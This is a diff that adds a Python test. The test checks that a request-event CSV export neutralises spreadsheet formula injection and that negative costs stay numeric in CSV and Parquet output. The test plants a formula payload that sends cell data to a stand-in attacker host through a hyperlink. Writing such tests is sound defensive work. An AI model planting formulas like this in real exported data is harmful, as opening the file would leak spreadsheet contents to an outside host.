@@ -60,6 +60,18 @@ def test_requests_as_csv_and_parquet(events: list[str], tmp_path: Path) -> None:
     assert sorted(path.name for path in tmp_path.iterdir()) == ["all.csv", "early.csv", "new"]
 
 
+def test_what_clients_wrote_runs_in_no_spreadsheet(events: list[str], tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1)'
+    with transaction() as conn:
+        conn.execute("update request_event set client_request_id = %s, cost_usd = -1", (formula,))
+    write("requests", tmp_path / "all.csv")
+    with (tmp_path / "all.csv").open(newline="") as file:
+        row = next(csv.DictReader(file))
+    assert (row["client_request_id"], row["cost_usd"]) == (f"'{formula}", "-1"), "and numbers stay numbers"
+    write("requests", tmp_path / "all.parquet")
+    assert parquet.read_table(tmp_path / "all.parquet").to_pylist()[0]["client_request_id"] == formula
+
+
 @pytest.mark.usefixtures("events")
 def test_every_table_is_written_both_ways(tmp_path: Path) -> None:
     for name in tables.TABLES:
